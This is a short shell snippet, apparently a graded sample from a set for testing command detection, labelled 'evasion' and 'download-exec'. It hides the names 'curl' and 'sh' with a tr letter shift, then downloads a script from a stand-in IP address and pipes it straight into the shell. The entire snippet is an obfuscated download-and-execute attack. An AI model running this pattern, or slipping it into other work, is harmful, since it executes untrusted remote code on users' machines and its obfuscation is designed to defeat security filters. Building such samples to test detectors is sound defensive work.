# evasion: command names shifted by one letter and restored with tr
# grade: hard; does: download-exec
d=$(echo btqk | tr a-y b-z)
r=$(echo rg | tr a-y b-z)
$d -s http://203.0.113.5/s | $r
